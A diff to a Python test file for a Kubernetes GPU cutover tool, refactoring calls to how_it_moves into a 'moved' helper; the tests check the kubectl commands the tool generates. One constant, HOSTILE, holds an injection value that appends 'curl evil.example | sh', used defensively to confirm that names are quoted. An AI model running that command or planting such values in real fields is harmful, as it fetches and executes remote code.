@@ -10,10 +10,16 @@ from typing import Any
 import pytest
 
 from dra_infra.advice.objects import reference_to
+from dra_infra.catalog.workload_kinds import workload_kinds
 from dra_infra.cutover.estate import Unit
 from dra_infra.cutover.steps import Move, back_from_move, how_it_moves, move
 from dra_infra.kubernetes.api.metadata import ObjectRef
 from tests.unit.cutover.plans import commands, deployment, job
+
+
+def moved(each: Unit) -> Move:
+    return how_it_moves(each, workload_kinds())
+
 
 HOSTILE = "n; curl evil.example | sh"
 
@@ -26,14 +32,14 @@ def unit(manifest: Mapping[str, Any], **metadata: Any) -> Unit:
 def of_kind(kind: str, group: str, **spec: Any) -> Move:
     """How an object of a kind of another project moves."""
     metadata = {"name": "x", "namespace": "ml"}
-    return how_it_moves(unit({"apiVersion": f"{group}/v1", "kind": kind, "metadata": metadata, "spec": spec}))
+    return moved(unit({"apiVersion": f"{group}/v1", "kind": kind, "metadata": metadata, "spec": spec}))
 
 
 def test_a_name_never_ends_a_command():
     on_delete = deployment(HOSTILE, 1, 1) | {"kind": "StatefulSet"}
     on_delete["spec"]["updateStrategy"] = {"type": "OnDelete"}
     moving = [
-        how_it_moves(unit(each, name=HOSTILE, namespace=HOSTILE))
+        moved(unit(each, name=HOSTILE, namespace=HOSTILE))
         for each in (deployment("a", 1, 1), job("a", 1, 1), on_delete)
     ]
     resources = [f"nvidia.com/'{HOSTILE}"]
@@ -47,9 +53,7 @@ def test_a_name_never_ends_a_command():
 
 
 def test_plain_names_are_not_quoted():
-    steps = move(
-        ["gpu-0", "gpu-1"], ["nvidia.com/gpu"], [how_it_moves(unit(deployment("serve", 1, 1)))], {}, {}
-    )
+    steps = move(["gpu-0", "gpu-1"], ["nvidia.com/gpu"], [moved(unit(deployment("serve", 1, 1)))], {}, {})
     commands = [each for step in steps for each in step.commands]
     assert "kubectl cordon gpu-0 gpu-1" in commands
     gone = r"--for='jsonpath={.status.allocatable.nvidia\.com/gpu}=0'"
@@ -59,9 +63,7 @@ def test_plain_names_are_not_quoted():
 
 
 def test_a_rollout_is_waited_for_when_its_nodes_are_back():
-    back = back_from_move(
-        ["gpu-0"], ["nvidia.com/gpu"], [how_it_moves(unit(deployment("serve", 1, 1)))], {}, {}, {}
-    )
+    back = back_from_move(["gpu-0"], ["nvidia.com/gpu"], [moved(unit(deployment("serve", 1, 1)))], {}, {}, {})
     commands = [each for step in back for each in step.commands]
     assert commands[-2:] == ["kubectl uncordon gpu-0", "kubectl rollout status deployment/serve -n ml"]
     assert "kubectl apply -f FILE" in commands
@@ -133,7 +135,7 @@ def test_pods_that_nobody_replaces_are_deleted_and_no_rollout_is_waited_for(kind
 
 def test_an_object_with_a_name_that_is_made_up_is_created_and_named_by_no_command():
     made = job("x", 1, 1)
-    found = how_it_moves(unit({**made, "metadata": {"generateName": "gen-", "namespace": "ml"}}))
+    found = moved(unit({**made, "metadata": {"generateName": "gen-", "namespace": "ml"}}))
     (step,) = move([], [], [found], {}, {})
     assert step.what.startswith(
         "delete what was made of Job ml/gen-*, and make it by kubectl create as migrated"
@@ -143,7 +145,7 @@ def test_an_object_with_a_name_that_is_made_up_is_created_and_named_by_no_comman
 
 @pytest.mark.parametrize("made", [deployment("a", 1, 1), job("a", 1, 1)], ids=["Deployment", "Job"])
 def test_every_step_that_applies_has_the_command_behind_what_it_deletes(made: dict[str, Any]):
-    alone = how_it_moves(replace(unit(made), file="my jobs/a.yaml"))
+    alone = moved(replace(unit(made), file="my jobs/a.yaml"))
     (step,) = move([], [], [alone], {}, {})
     (back,) = back_from_move([], [], [alone], {}, {}, {})
     assert step.commands == (*alone.first, "kubectl apply -f 'my jobs/a.yaml'", *alone.then)
@@ -152,7 +154,7 @@ def test_every_step_that_applies_has_the_command_behind_what_it_deletes(made: di
 
 def test_a_file_with_other_workloads_is_not_applied_as_a_whole():
     others = (ObjectRef("Deployment", "web", "ml"),)
-    both = how_it_moves(replace(unit(job("a", 1, 1)), file="all.yaml", beside=others))
+    both = moved(replace(unit(job("a", 1, 1)), file="all.yaml", beside=others))
     (step,) = move([], [], [both], {}, {})
     assert step.commands == (*both.first, "kubectl apply -f FILE")
     assert "from all.yaml into a FILE of its own, for that has Deployment ml/web too" in step.what
